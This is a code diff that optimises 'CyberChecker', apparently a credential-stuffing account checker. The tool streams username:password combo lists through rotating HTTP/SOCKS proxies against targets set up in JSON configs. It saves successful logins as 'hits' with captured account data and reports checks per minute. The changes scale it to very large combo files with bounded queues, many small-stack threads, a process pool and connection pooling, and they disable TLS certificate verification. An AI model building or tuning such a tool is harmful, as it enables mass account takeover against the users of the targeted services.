@@ -13,14 +13,65 @@ import threading
 import json
 import queue
 import argparse
+import functools
+import concurrent.futures
 import requests
+from requests.compat import chardet
 from datetime import datetime, timedelta
 from urllib3.exceptions import InsecureRequestWarning
 
+# Use orjson for JSON decoding when it is installed
+try:
+    import orjson
+    json_loads = orjson.loads
+except ImportError:
+    json_loads = json.loads
+
 # Suppress SSL warnings
 import urllib3
 urllib3.disable_warnings(InsecureRequestWarning)
 
+# Workers spend nearly all their time blocked on network I/O, so a small
+# stack lets many more of them run without reserving 8MB each
+WORKER_STACK_SIZE = 512 * 1024
+
+# Clears the progress line before it is redrawn
+_CLEAR_LINE = '\r' + ' ' * 80 + '\r'
+
+# Marks a JSON path that is not present in the response
+_MISSING = object()
+
+# Relative evaluation cost of each condition type
+CONDITION_COSTS = {
+    'status_code': 0,
+    'contains': 2,
+    'not_contains': 2,
+    'json_contains': 3
+}
+
+# URL scheme used for each supported proxy type
+PROXY_SCHEMES = {
+    'HTTP': 'http',
+    'SOCKS4': 'socks4',
+    'SOCKS5': 'socks5'
+}
+
+# Write buffer size for each streamed result file
+RESULT_BUFFER_SIZE = 64 * 1024
+
+# Connections kept alive per host by each worker's session; a worker uses one at a time,
+# matching POOLED_CLIENT_CONNECTIONS in utils/http_client.py
+POOL_SIZE = 2
+
+# Maximum number of combo lines buffered ahead of the workers
+COMBO_QUEUE_SIZE = 10000
+
+# Bytes read from the combo file per block
+COMBO_READ_SIZE = 1024 * 1024
+
+# Number of combos handed to a worker per queue operation
+COMBO_CHUNK_SIZE = 64
+
 def format_time(seconds):
     """Format seconds to HH:MM:SS"""
     return str(timedelta(seconds=seconds)).split('.')[0]
@@ -30,12 +81,234 @@ def ensure_directory(directory):
     if not os.path.exists(directory):
         os.makedirs(directory)
 
+def iter_lines(f, block_size=None):
+    """Yield raw lines from a binary file, splitting large blocks in one C call"""
+    block_size = block_size or COMBO_READ_SIZE
+    remainder = b''
+    
+    while True:
+        block = f.read(block_size)
+        if not block:
+            break
+        
+        lines = (remainder + block).split(b'\n')
+        remainder = lines.pop()
+        yield from lines
+    
+    if remainder:
+        yield remainder
+
+@functools.lru_cache(maxsize=1024)
+def _capture_pattern(start, end):
+    """Compile a capture pattern, shared by every config using the same delimiters"""
+    return re.compile(f'{re.escape(start)}(.*?){re.escape(end)}', re.DOTALL)
+
+def compile_capture_patterns(capture_configs):
+    """Compile capture definitions into a list of (name, pattern) tuples"""
+    compiled = []
+    for capture_config in capture_configs:
+        name = capture_config.get('name', '')
+        start = capture_config.get('start', '')
+        end = capture_config.get('end', '')
+        
+        if name and start and end:
+            compiled.append((name, _capture_pattern(start, end)))
+    
+    return compiled
+
+@functools.lru_cache(maxsize=128)
+def _variable_pattern(names):
+    """Build a single-pass substitution pattern for the given variable names"""
+    alternation = '|'.join(re.escape(name) for name in sorted(names, key=len, reverse=True))
+    return re.compile(f'\\{{({alternation})\\}}')
+
+def _json_path_getter(path_parts):
+    """Build a lookup for a fixed JSON path, returning _MISSING if it is absent"""
+    if not path_parts:
+        return lambda data: data
+    
+    if len(path_parts) == 1:
+        key = path_parts[0]
+        return lambda data: data.get(key, _MISSING) if isinstance(data, dict) else _MISSING
+    
+    def get_value(data):
+        for part in path_parts:
+            if not isinstance(data, dict):
+                return _MISSING
+            data = data.get(part, _MISSING)
+        return data
+    
+    return get_value
+
+def _compile_condition(condition):
+    """Compile a single condition into a predicate(text, status_code, json_data)"""
+    condition_type = condition.get('type', '').lower()
+    condition_value = condition.get('value', '')
+    
+    if condition_type == 'status_code':
+        try:
+            expected_code = int(condition_value)
+        except (TypeError, ValueError):
+            return lambda text, status_code, json_data: False
+        return lambda text, status_code, json_data: status_code == expected_code
+    
+    if condition_type == 'json_contains':
+        path_parts = tuple(part for part in condition.get('path', '').split('.') if part)
+        get_value = _json_path_getter(path_parts)
+        
+        def json_contains(text, status_code, json_data):
+            current = get_value(json_data)
+            if current is _MISSING:
+                return False
+            
+            try:
+                # Check if the final value contains the condition value
+                if isinstance(current, str):
+                    return condition_value in current
+                return condition_value in str(current)
+            except Exception:
+                return False
+        
+        return json_contains
+    
+    # Unknown condition types always match
+    return None
+
+def _body_predicate(needles, excluded):
+    """Compile all contains/not_contains conditions into one predicate"""
+    # Each literal is still its own `in` scan; a regex alternation is only faster
+    # when the literals share a prefix, and far slower when they don't
+    def check_body(text, status_code, json_data):
+        for needle in needles:
+            if needle not in text:
+                return False
+        for needle in excluded:
+            if needle in text:
+                return False
+        return True
+    
+    return check_body
+
+def compile_conditions(conditions):
+    """Compile condition definitions into a list of predicates, cheapest first"""
+    compiled = []
+    needles = []
+    excluded = []
+    
+    for condition in conditions:
+        condition_type = condition.get('type', '').lower()
+        
+        if condition_type == 'contains':
+            needles.append(condition.get('value', ''))
+        elif condition_type == 'not_contains':
+            excluded.append(condition.get('value', ''))
+        else:
+            predicate = _compile_condition(condition)
+            if predicate is not None:
+                compiled.append((CONDITION_COSTS.get(condition_type, 0), predicate))
+    
+    # Literal body checks share one predicate call per condition set
+    if needles or excluded:
+        compiled.append((CONDITION_COSTS['contains'], _body_predicate(tuple(needles), tuple(excluded))))
+    
+    # All conditions must match, so cheap checks can reject a response
+    # before the body is scanned
+    compiled.sort(key=lambda item: item[0])
+    return [predicate for cost, predicate in compiled]
+
+def intern_keys(data):
+    """Recursively intern the dict keys of a parsed config"""
+    if isinstance(data, dict):
+        return {sys.intern(key): intern_keys(value) for key, value in data.items()}
+    if isinstance(data, list):
+        return [intern_keys(item) for item in data]
+    return data
+
+def compile_config(config_data):
+    """Attach precompiled capture patterns and condition predicates to a config"""
+    config_data['_compiled_capture'] = compile_capture_patterns(config_data.get('capture', []))
+    config_data['_success_fns'] = compile_conditions(config_data.get('success_conditions', []))
+    config_data['_failure_fns'] = compile_conditions(config_data.get('failure_conditions', []))
+    
+    # Only json_contains conditions read the decoded body
+    conditions = config_data.get('success_conditions', []) + config_data.get('failure_conditions', [])
+    config_data['_needs_json'] = any(condition.get('type', '').lower() == 'json_contains' for condition in conditions)
+    return config_data
+
+def check_conditions(response_text, status_code, json_data, predicates):
+    """Check if response properties match all of the given compiled conditions"""
+    for predicate in predicates:
+        if not predicate(response_text, status_code, json_data):
+            return False
+    
+    return True
+
+def evaluate_response(config, response_text, status_code, content):
+    """
+    Run the compiled captures and conditions of a config against a final response.
+    Returns a (success, failure, captured_data) tuple.
+    """
+    captured_data = {}
+    for name, pattern in config['_compiled_capture']:
+        try:
+            match = pattern.search(response_text)
+            if match:
+                captured_data[name] = match.group(1).strip()
+        except Exception as e:
+            # Capture error but continue process
+            print(f"Error capturing data {name}: {str(e)}")
+    
+    success = failure = False
+    if config.get('success_conditions') or config.get('failure_conditions'):
+        # Decode the body once for both condition sets, and only if a condition reads it
+        json_data = {}
+        if config['_needs_json']:
+            try:
+                json_data = json_loads(content)
+            except ValueError:
+                pass
+        
+        if config.get('success_conditions'):
+            success = check_conditions(response_text, status_code, json_data, config['_success_fns'])
+        
+        if config.get('failure_conditions'):
+            failure = check_conditions(response_text, status_code, json_data, config['_failure_fns'])
+    
+    return success, failure, captured_data
+
+# Config compiled once in each evaluator process
+_process_config = None
+
+def _init_evaluator(config_data):
+    """Process pool initializer that compiles the config in the worker process"""
+    global _process_config
+    _process_config = compile_config(config_data)
+
+def _decode_body(content, encoding):
+    """Decode a response body the same way requests' Response.text does"""
+    if not content:
+        return ''
+    
+    # Without a declared charset, fall back to detection as requests does
+    if encoding is None and chardet is not None:
+        encoding = chardet.detect(content)['encoding']
+    
+    try:
+        return str(content, encoding or 'utf-8', errors='replace')
+    except LookupError:
+        return str(content, 'utf-8', errors='replace')
+
+def _evaluate_in_process(content, encoding, status_code):
+    """Decode and evaluate a response against the config compiled in this worker process"""
+    return evaluate_response(_process_config, _decode_body(content, encoding), status_code, content)
+
 class SimpleConfigManager:
     """Simple version of ConfigManager without Kivy dependencies"""
     
     def __init__(self, config_dir="configs"):
         """Initialize the configuration manager"""
         self.config_dir = config_dir
+        self._cache = {}  # name -> (mtime, config_data)
         os.makedirs(self.config_dir, exist_ok=True)
     
     def get_config_files(self):
@@ -44,9 +317,10 @@ class SimpleConfigManager:
             return []
         
         config_files = []
-        for filename in os.listdir(self.config_dir):
-            if filename.endswith(".json"):
-                config_files.append(filename[:-5])  # Remove .json extension
+        with os.scandir(self.config_dir) as entries:
+            for entry in entries:
+                if entry.name.endswith(".json"):
+                    config_files.append(entry.name[:-5])  # Remove .json extension
         
         return sorted(config_files)
     
@@ -54,13 +328,27 @@ class SimpleConfigManager:
         """Load a configuration by name"""
         config_path = os.path.join(self.config_dir, f"{name}.json")
         
-        if not os.path.exists(config_path):
+        try:
+            mtime = os.stat(config_path).st_mtime
+        except OSError:
             return None
         
+        # Reuse the parsed config while the file is unchanged
+        cached = self._cache.get(name)
+        if cached and cached[0] == mtime:
+            return cached[1]
+        
         try:
-            with open(config_path, 'r', encoding='utf-8') as f:
-                config_data = json.load(f)
+            with open(config_path, 'rb') as f:
+                config_data = json_loads(f.read())
             
+            # Header and field names repeat for every combo, so share one copy of each
+            config_data = intern_keys(config_data)
+            
+            # Compile captures and conditions once so workers can share them
+            compile_config(config_data)
+            
+            self._cache[name] = (mtime, config_data)
             return config_data
         except Exception as e:
             print(f"Error loading config {name}: {str(e)}")
@@ -73,7 +361,18 @@ class SimpleHttpClient:
         """Initialize the HTTP client"""
         self.timeout = timeout
         self.session = requests.Session()
+        self.session.verify = False
         self.proxies = None
+        self.executor = None  # Optional process pool for response evaluation
+        
+        # Keep connections to the target host alive across checks
+        adapter = requests.adapters.HTTPAdapter(
+            pool_connections=POOL_SIZE,
+            pool_maxsize=POOL_SIZE,
+            max_retries=0
+        )
+        self.session.mount('https://', adapter)
+        self.session.mount('http://', adapter)
     
     def set_proxy(self, proxy_dict):
         """Set proxy for requests"""
@@ -93,6 +392,11 @@ class SimpleHttpClient:
             # Add timeout
             kwargs['timeout'] = self.timeout
             
+            # Fall back to the session-wide verify setting; passed explicitly so
+            # REQUESTS_CA_BUNDLE/CURL_CA_BUNDLE can't override it
+            if kwargs.get('verify') is None:
+                kwargs['verify'] = self.session.verify
+            
             # Make the request
             response = self.session.request(method, url, **kwargs)
             return response
@@ -109,11 +413,11 @@ class SimpleHttpClient:
                 'json': lambda: {}
             }
     
-    def get(self, url, headers=None, params=None, verify=False):
+    def get(self, url, headers=None, params=None, verify=None):
         """Make a GET request"""
         return self._make_request('GET', url, headers=headers, params=params, verify=verify)
     
-    def post(self, url, headers=None, data=None, json=None, verify=False):
+    def post(self, url, headers=None, data=None, json=None, verify=None):
         """Make a POST request"""
         return self._make_request('POST', url, headers=headers, data=data, json=json, verify=verify)
     
@@ -131,6 +435,10 @@ class SimpleHttpClient:
             # Captured data from previous requests
             captured_data = {}
             
+            # Use the patterns compiled at load time, compiling here only for ad-hoc configs
+            if '_compiled_capture' not in config:
+                compile_config(config)
+            
             # Process each request in the configuration
             for i, req_config in enumerate(config.get('requests', [])):
                 method = req_config.get('method', 'GET').upper()
@@ -138,7 +446,7 @@ class SimpleHttpClient:
                 headers = req_config.get('headers', {})
                 data = req_config.get('data', {})
                 json_data = req_config.get('json', None)
-                verify = req_config.get('verify', False)
+                verify = req_config.get('verify')
                 
                 # Prepare request data
                 url = self._replace_variables(url, username, password, captured_data)
@@ -168,35 +476,23 @@ class SimpleHttpClient:
                     result['error_message'] = response.get('text', 'Unknown error')
                     return result
                 
-                # Extract captured data if defined in the config
-                if i == len(config.get('requests', [])) - 1:  # Only capture from final request
-                    for capture_config in config.get('capture', []):
-                        name = capture_config.get('name', '')
-                        start = capture_config.get('start', '')
-                        end = capture_config.get('end', '')
-                        
-                        if name and start and end:
-                            try:
-                                # Get response text
-                                response_text = response.text if hasattr(response, 'text') else str(response)
-                                pattern = f'{re.escape(start)}(.*?){re.escape(end)}'
-                                match = re.search(pattern, response_text, re.DOTALL)
-                                if match:
-                                    captured_data[name] = match.group(1).strip()
-                                    result['captured_data'][name] = match.group(1).strip()
-                            except Exception as e:
-                                # Capture error but continue process
-                                print(f"Error capturing data {name}: {str(e)}")
-                
-                # Check success and failure conditions on the final request
+                # Extract captured data and check conditions on the final request
                 if i == len(config.get('requests', [])) - 1:
-                    # Check success conditions
-                    if config.get('success_conditions'):
-                        result['success'] = self._check_conditions(response, config.get('success_conditions', []))
+                    if not hasattr(response, 'text'):
+                        # Fallback for our custom error response
+                        success, failure, captured = evaluate_response(
+                            config, response.get('text', ''), response.get('status_code', 0), b'')
+                    elif self.executor:
+                        # Send only the raw body; the worker process decodes and scans it outside the GIL
+                        future = self.executor.submit(_evaluate_in_process, response.content, response.encoding, response.status_code)
+                        success, failure, captured = future.result()
+                    else:
+                        success, failure, captured = evaluate_response(config, response.text, response.status_code, response.content)
                     
-                    # Check failure conditions
-                    if config.get('failure_conditions'):
-                        result['failure'] = self._check_conditions(response, config.get('failure_conditions', []))
+                    captured_data.update(captured)
+                    result['captured_data'].update(captured)
+                    result['success'] = success
+                    result['failure'] = failure
             
             return result
             
@@ -245,84 +541,66 @@ class SimpleHttpClient:
         if not isinstance(text, str):
             return text
         
-        # Replace username and password
-        result = text.replace('{USERNAME}', username).replace('{PASSWORD}', password)
+        # Username and password take precedence over captured variables
+        values = {'USERNAME': username, 'PASSWORD': password}
         
-        # Replace captured variables if present
+        # Add captured variables if present
         if captured_data:
             for name, value in captured_data.items():
                 # Both formats: {VARIABLE} and {variable}
-                result = result.replace(f'{{{name.upper()}}}', value)
-                result = result.replace(f'{{{name.lower()}}}', value)
-                result = result.replace(f'{{{name}}}', value)
+                values.setdefault(name.upper(), value)
+                values.setdefault(name.lower(), value)
+                values.setdefault(name, value)
         
-        return result
+        # Replace every variable in a single scan of the text
+        pattern = _variable_pattern(frozenset(values))
+        return pattern.sub(lambda match: values[match.group(1)], text)
+
+class Stats:
+    """Checker statistics stored in fixed slots for cheap access from workers"""
     
-    def _check_conditions(self, response, conditions):
-        """Check if response matches the given conditions"""
-        if not conditions:
-            return False
-        
-        # Get response properties
-        if hasattr(response, 'text'):
-            response_text = response.text
-            status_code = response.status_code
-            try:
-                json_data = response.json()
-            except:
-                json_data = {}
-        else:
-            # Fallback for our custom error response
-            response_text = response.get('text', '')
-            status_code = response.get('status_code', 0)
-            json_data = {}
-        
-        # Check each condition
-        for condition in conditions:
-            condition_type = condition.get('type', '').lower()
-            condition_value = condition.get('value', '')
+    __slots__ = ('checked', 'hits', 'tocheck', 'deads', 'start_time', 'cpm',
+                 'last_checked', 'last_cpm_update')
+    
+    def __init__(self, start_time=0):
+        """Initialize all counters to zero"""
+        self.checked = 0
+        self.hits = 0
+        self.tocheck = 0
+        self.deads = 0
+        self.start_time = start_time
+        self.cpm = 0
+        self.last_checked = 0
+        self.last_cpm_update = start_time
+
+class RateLimiter:
+    """Token bucket shared by worker threads to cap checks per second"""
+    
+    def __init__(self, rate):
+        """Initialize the bucket with a refill rate in tokens per second"""
+        if rate <= 0:
+            raise ValueError("rate must be greater than 0")
+        self.rate = rate
+        self.capacity = max(1.0, rate)
+        self.tokens = self.capacity
+        self.last_refill = time.monotonic()
+        self.lock = threading.Lock()
+    
+    def acquire(self):
+        """Block until a token is available and consume it"""
+        while True:
+            with self.lock:
+                now = time.monotonic()
+                self.tokens = min(self.capacity, self.tokens + (now - self.last_refill) * self.rate)
+                self.last_refill = now
+                
+                if self.tokens >= 1:
+                    self.tokens -= 1
+                    return
+                
+                wait = (1 - self.tokens) / self.rate
             
-            if condition_type == 'contains':
-                # Check if the response contains the value
-                if condition_value not in response_text:
-                    return False
-            elif condition_type == 'not_contains':
-                # Check if the response does not contain the value
-                if condition_value in response_text:
-                    return False
-            elif condition_type == 'status_code':
-                # Check if the response status code matches
-                try:
-                    expected_code = int(condition_value)
-                    if status_code != expected_code:
-                        return False
-                except:
-                    return False
-            elif condition_type == 'json_contains':
-                # Check if the response JSON contains the value
-                try:
-                    json_path = condition.get('path', '')
-                    
-                    # Navigate the JSON path
-                    path_parts = json_path.split('.')
-                    current = json_data
-                    for part in path_parts:
-                        if part:
-                            if isinstance(current, dict) and part in current:
-                                current = current[part]
-                            else:
-                                return False
-                    
-                    # Check if the final value contains the condition value
-                    if isinstance(current, str) and condition_value not in current:
-                        return False
-                    elif not isinstance(current, str) and condition_value not in str(current):
-                        return False
-                except:
-                    return False
-        
-        # All conditions matched
-        return True
+            time.sleep(wait)
 
 class ConsoleChecker:
     """CLI version of CyberChecker for testing and basic usage"""
@@ -332,25 +610,23 @@ class ConsoleChecker:
         self.http_client = SimpleHttpClient()
         
         # Stats
-        self.stats = {
-            'checked': 0,
-            'hits': 0,
-            'tocheck': 0,
-            'deads': 0,
-            'start_time': 0,
-            'cpm': 0,
-            'last_checked': 0,
-            'last_cpm_update': 0
-        }
+        self.stats = Stats()
         
-        # Results storage
-        self.hits = []
-        self.free = []
-        self.logs = []
+        # Results are streamed to disk while checking; only counts stay in memory
+        self.free_count = 0
+        self.log_count = 0
+        self.logs = []  # Log lines buffered until the log file is opened
+        self.result_paths = None
+        self._hits_fp = None
+        self._free_fp = None
+        self._log_fp = None
+        self._results_lock = threading.Lock()
         
         # Worker control
         self.is_checking = False
         self.pause_event = threading.Event()
+        self.combos_loaded = threading.Event()
+        self._stats_lock = threading.Lock()
         
         # Initialize dirs
         ensure_directory('configs')
@@ -360,7 +636,12 @@ class ConsoleChecker:
         """Add a log message"""
         timestamp = datetime.now().strftime('%H:%M:%S')
         log_line = f"[{timestamp}] {message}"
-        self.logs.append(log_line)
+        with self._results_lock:
+            if self._log_fp:
+                self._log_fp.write(log_line + '\n')
+                self.log_count += 1
+            else:
+                self.logs.append(log_line)
         print(log_line)
     
     def list_configs(self):
@@ -374,7 +655,7 @@ class ConsoleChecker:
         for i, config_name in enumerate(configs, 1):
             self.log(f"{i}. {config_name}")
     
-    def check_combo(self, config_name, combo_file, proxy_file=None, proxy_type='None', threads=10, timeout=10):
+    def check_combo(self, config_name, combo_file, proxy_file=None, proxy_type='None', threads=10, timeout=10, rps=None, processes=0):
         """Main checking function"""
         # Load config
         config = self.config_manager.load_config(config_name)
@@ -404,61 +685,69 @@ class ConsoleChecker:
                 self.log(f"Error reading proxies file: {str(e)}")
                 return False
         
-        # Count lines to update tocheck
-        try:
-            with open(combo_file, 'r', encoding='utf-8', errors='ignore') as f:
-                line_count = sum(1 for _ in f)
-            self.stats['tocheck'] = line_count
-            self.log(f"Loaded combo file: {os.path.basename(combo_file)} ({line_count} lines)")
-        except Exception as e:
-            self.log(f"Error counting lines in combo file: {str(e)}")
-            return False
+        # Build each proxy dict once instead of per combo
+        scheme = PROXY_SCHEMES.get(proxy_type)
+        if scheme:
+            proxies = [{'http': f'{scheme}://{p}', 'https': f'{scheme}://{p}'} for p in proxies]
+        else:
+            proxies = []
         
         # Reset stats
-        self.stats = {
-            'checked': 0,
-            'hits': 0,
-            'tocheck': line_count,
-            'deads': 0,
-            'start_time': time.time(),
-            'cpm': 0,
-            'last_checked': 0,
-            'last_cpm_update': time.time()
-        }
-        
-        # Clear previous results
-        self.hits = []
-        self.free = []
+        self.stats = Stats(start_time=time.time())
         
-        self.log(f"Starting checking process with {threads} threads and {timeout}s timeout...")
-        
-        # Create a queue for combo lines
-        combo_queue = queue.Queue()
+        # Optional process pool that scans response bodies on other cores.
+        # It is started before the result files are opened and before any thread,
+        # so its processes fork without inheriting open handles or held locks.
+        try:
+            executor = self.start_evaluator(config, processes) if processes else None
+        except Exception as e:
+            self.log(f"Error starting evaluator processes: {str(e)}")
+            return False
         
-        # Fill the queue with combo lines
+        # Open fresh result files for this run
         try:
-            with open(combo_file, 'r', encoding='utf-8', errors='ignore') as f:
-                for line in f:
-                    line = line.strip()
-                    if line and ':' in line:
-                        combo_queue.put(line)
+            self.open_results()
         except Exception as e:
-            self.log(f"Error reading combo file: {str(e)}")
+            self.log(f"Error creating result files: {str(e)}")
+            if executor:
+                executor.shutdown(wait=False, cancel_futures=True)
             return False
         
-        # Start worker threads
+        self.log(f"Streaming combo file: {os.path.basename(combo_file)}")
+        self.log(f"Starting checking process with {threads} threads and {timeout}s timeout...")
+        
+        # Bounded queue so memory stays flat regardless of combo file size
+        combo_queue = queue.Queue(maxsize=COMBO_QUEUE_SIZE // COMBO_CHUNK_SIZE)
+        
+        # Stream combo lines into the queue while the workers consume them
         self.is_checking = True
         self.pause_event.clear()
+        self.combos_loaded.clear()
+        producer = threading.Thread(
+            target=self.combo_producer,
+            args=(combo_file, combo_queue, threads, self.pause_event),
+            daemon=True
+        )
+        producer.start()
+        
+        # Start worker threads
         self.worker_threads = []
         
-        for _ in range(threads):
-            t = threading.Thread(
-                target=self.worker_thread,
-                args=(combo_queue, config, proxies, proxy_type, timeout, self.pause_event),
-                daemon=True
-            )
-            t.start()
-            self.worker_threads.append(t)
+        # Optional request rate cap shared by all workers
+        rate_limiter = RateLimiter(rps) if rps else None
+        
+        previous_stack_size = threading.stack_size(WORKER_STACK_SIZE)
+        try:
+            for _ in range(threads):
+                t = threading.Thread(
+                    target=self.worker_thread,
+                    args=(combo_queue, config, proxies, proxy_type, timeout, self.pause_event, rate_limiter, executor),
+                    daemon=True
+                )
+                t.start()
+                self.worker_threads.append(t)
+        finally:
+            threading.stack_size(previous_stack_size)
         
         # Monitor progress
         try:
@@ -467,7 +756,7 @@ class ConsoleChecker:
                 self.display_progress()
                 
                 # Check if all done
-                if self.stats['checked'] >= self.stats['tocheck']:
+                if self.combos_loaded.is_set() and self.stats.checked >= self.stats.tocheck:
                     self.is_checking = False
                     break
                 
@@ -497,76 +786,138 @@ class ConsoleChecker:
                 t.join(0.1)
             
             self.log("Stopped.")
+            
+            # Close result files so everything checked so far is kept
+            self.export_results()
             return False
+        
+        finally:
+            if executor:
+                executor.shutdown(wait=False, cancel_futures=True)
     
-    def worker_thread(self, queue, config, proxies, proxy_type, timeout, pause_event):
+    def start_evaluator(self, config, processes):
+        """Start a process pool that evaluates final responses against the config"""
+        # Compiled predicates cannot be pickled, so each process compiles its own copy
+        raw_config = {key: value for key, value in config.items() if not key.startswith('_')}
+        executor = concurrent.futures.ProcessPoolExecutor(
+            max_workers=processes,
+            initializer=_init_evaluator,
+            initargs=(raw_config,)
+        )
+        
+        # Launch the processes now rather than on first use from a worker thread
+        executor.submit(int).result()
+        return executor
+    
+    def combo_producer(self, combo_file, combo_queue, threads, pause_event):
+        """Producer thread that streams chunks of (username, password) pairs into the queue"""
+        file_size = os.path.getsize(combo_file)
+        bytes_read = 0
+        queued = 0
+        chunk = []
+        
+        try:
+            # Read raw bytes and only decode the username and password fragments
+            with open(combo_file, 'rb') as f:
+                for raw in iter_lines(f):
+                    bytes_read += len(raw) + 1
+                    raw = raw.strip()
+                    separator = raw.find(b':')
+                    if separator < 0:
+                        continue
+                    
+                    chunk.append((
+                        raw[:separator].decode('utf-8', 'ignore'),
+                        raw[separator + 1:].decode('utf-8', 'ignore')
+                    ))
+                    queued += 1
+                    
+                    # Hand combos over in chunks to amortize the queue lock
+                    if len(chunk) >= COMBO_CHUNK_SIZE:
+                        if not self._put_combo(combo_queue, chunk, pause_event):
+                            return
+                        chunk = []
+                    
+                    # Estimate the total from the share of the file read so far
+                    if queued % 1000 == 0:
+                        self.stats.tocheck = int(queued * file_size / bytes_read)
+        except Exception as e:
+            self.log(f"Error reading combo file: {str(e)}")
+        
+        if chunk and not self._put_combo(combo_queue, chunk, pause_event):
+            return
+        
+        self.stats.tocheck = queued
+        self.combos_loaded.set()
+        
+        # One sentinel per worker signals the end of the combo stream
+        for _ in range(threads):
+            if not self._put_combo(combo_queue, None, pause_event):
+                return
+    
+    def _put_combo(self, combo_queue, item, pause_event):
+        """Put an item on the bounded queue, giving up if checking is stopped"""
+        while not pause_event.is_set():
+            try:
+                combo_queue.put(item, timeout=0.5)
+                return True
+            except queue.Full:
+                continue
+        return False
+    
+    def worker_thread(self, queue, config, proxies, proxy_type, timeout, pause_event, rate_limiter=None, executor=None):
         """Worker thread for checking"""
         http_client = SimpleHttpClient(timeout=timeout)
+        http_client.executor = executor
         
         proxy_index = 0
         proxy = None
         
         while not pause_event.is_set():
+            # Get next chunk of combos
             try:
-                # Get next combo line
-                try:
-                    combo_line = queue.get(block=False)
-                except Exception:
-                    # No more work to do (queue empty)
+                chunk = queue.get(timeout=0.5)
+            except Exception:
+                # Producer has not caught up yet
+                continue
+            
+            if chunk is None:
+                # No more work to do (end of combo stream)
+                break
+            
+            # Combos arrive already split by the producer
+            for username, password in chunk:
+                if pause_event.is_set():
                     break
                 
-                # Set proxy if needed
-                if proxies and proxy_type != 'None':
-                    if proxy_index >= len(proxies):
-                        proxy_index = 0
-                    
-                    proxy_str = proxies[proxy_index]
-                    proxy_index += 1
-                    
-                    try:
-                        if proxy_type == 'HTTP':
-                            proxy = {
-                                'http': f'http://{proxy_str}',
-                                'https': f'http://{proxy_str}'
-                            }
-                        elif proxy_type == 'SOCKS4':
-                            proxy = {
-                                'http': f'socks4://{proxy_str}',
-                                'https': f'socks4://{proxy_str}'
-                            }
-                        elif proxy_type == 'SOCKS5':
-                            proxy = {
-                                'http': f'socks5://{proxy_str}',
-                                'https': f'socks5://{proxy_str}'
-                            }
+                try:
+                    # Rotate to the next proxy if needed
+                    if proxies:
+                        if proxy_index >= len(proxies):
+                            proxy_index = 0
                         
+                        proxy = proxies[proxy_index]
+                        proxy_index += 1
                         http_client.set_proxy(proxy)
-                    except Exception as e:
-                        print(f"Error setting proxy: {str(e)}")
-                        http_client.clear_proxy()
-                
-                # Parse the combo line
-                if ':' in combo_line:
-                    parts = combo_line.split(':', 1)
-                    username, password = parts[0], parts[1]
+                    
+                    # Wait for a request slot if rate limiting is enabled
+                    if rate_limiter:
+                        rate_limiter.acquire()
                     
                     # Check the account
                     result = self.check_account(username, password, config, http_client, proxy)
                     
                     # Process the result
-                    self.process_result(result, combo_line)
+                    self.process_result(result, f"{username}:{password}")
                     
                     # Mark as checked
-                    with threading.Lock():
-                        self.stats['checked'] += 1
-                
-                # Small delay to prevent hammering
-                time.sleep(0.05)
-                
-            except Exception as e:
-                print(f"Worker error: {str(e)}")
-                # Continue to next combo
-                continue
+                    with self._stats_lock:
+                        self.stats.checked += 1
+                    
+                except Exception as e:
+                    print(f"Worker error: {str(e)}")
+                    # Continue to next combo
+                    continue
     
     def check_account(self, username, password, config, http_client, proxy=None):
         """Check an account using the selected config"""
@@ -598,14 +949,14 @@ class ConsoleChecker:
         """Process a result from a worker thread"""
         if result['error']:
             # Handle error
-            with threading.Lock():
-                self.stats['deads'] += 1
+            with self._stats_lock:
+                self.stats.deads += 1
             return
         
         if result['success']:
             # Handle hit
-            with threading.Lock():
-                self.stats['hits'] += 1
+            with self._stats_lock:
+                self.stats.hits += 1
             
             # Format the result for display
             captured = []
@@ -619,61 +970,64 @@ class ConsoleChecker:
                 display_text += f" | {capture_text}"
             
             # Add to hits
-            self.hits.append(display_text)
+            with self._results_lock:
+                if self._hits_fp:
+                    self._hits_fp.write(display_text + '\n')
         elif result['failure']:
             # Handle dead
-            with threading.Lock():
-                self.stats['deads'] += 1
+            with self._stats_lock:
+                self.stats.deads += 1
         else:
             # Handle free (neither hit nor explicitly dead)
-            self.free.append(combo_line)
+            with self._results_lock:
+                if self._free_fp:
+                    self._free_fp.write(combo_line + '\n')
+                    self.free_count += 1
     
     def update_stats(self):
         """Update the statistics"""
         current_time = time.time()
-        elapsed = current_time - self.stats.get('start_time', current_time)
+        stats = self.stats
         
         # Only update CPM every second
-        if current_time - self.stats.get('last_cpm_update', 0) >= 1.0:
+        if current_time - stats.last_cpm_update >= 1.0:
             # Calculate checks in the last interval
-            checks_diff = self.stats['checked'] - self.stats.get('last_checked', 0)
-            self.stats['last_checked'] = self.stats['checked']
-            self.stats['last_cpm_update'] = current_time
+            checks_diff = stats.checked - stats.last_checked
+            stats.last_checked = stats.checked
+            stats.last_cpm_update = current_time
             
             # Update CPM with some smoothing
             new_cpm = checks_diff * 60  # Convert to per minute
-            if self.stats['cpm'] == 0:
-                self.stats['cpm'] = new_cpm
+            if stats.cpm == 0:
+                stats.cpm = new_cpm
             else:
                 # Smooth CPM changes
-                self.stats['cpm'] = int((self.stats['cpm'] * 0.6) + (new_cpm * 0.4))
+                stats.cpm = int((stats.cpm * 0.6) + (new_cpm * 0.4))
     
     def display_progress(self):
         """Display progress in terminal"""
-        current_time = time.time()
-        elapsed = current_time - self.stats.get('start_time', current_time)
+        stats = self.stats
+        elapsed = time.time() - stats.start_time
         elapsed_str = format_time(int(elapsed))
         
         # Calculate progress percentage
-        if self.stats['tocheck'] > 0:
-            progress = int((self.stats['checked'] / self.stats['tocheck']) * 100)
+        if stats.tocheck > 0:
+            progress = int((stats.checked / stats.tocheck) * 100)
         else:
             progress = 0
         
-        # Clear line and print status
-        sys.stdout.write('\r' + ' ' * 80 + '\r')
+        # Clear line and print status in a single write
         status = (
             f"Progress: {progress:3d}% | "
-            f"Checked: {self.stats['checked']}/{self.stats['tocheck']} | "
-            f"Hits: {self.stats['hits']} | "
-            f"CPM: {int(self.stats['cpm'])} | "
+            f"Checked: {stats.checked}/{stats.tocheck} | "
+            f"Hits: {stats.hits} | "
+            f"CPM: {int(stats.cpm)} | "
             f"Elapsed: {elapsed_str}"
         )
-        sys.stdout.write(status)
-        sys.stdout.flush()
+        print(_CLEAR_LINE + status, end='', flush=True)
     
-    def export_results(self):
-        """Export results to files"""
+    def open_results(self):
+        """Open the result files that hits, free combos and logs are streamed into"""
         timestamp = datetime.now().strftime('%Y%m%d_%H%M%S')
         results_dir = 'results'
         ensure_directory(results_dir)
@@ -683,26 +1037,38 @@ class ConsoleChecker:
         free_file = os.path.join(results_dir, f"free_{timestamp}.txt")
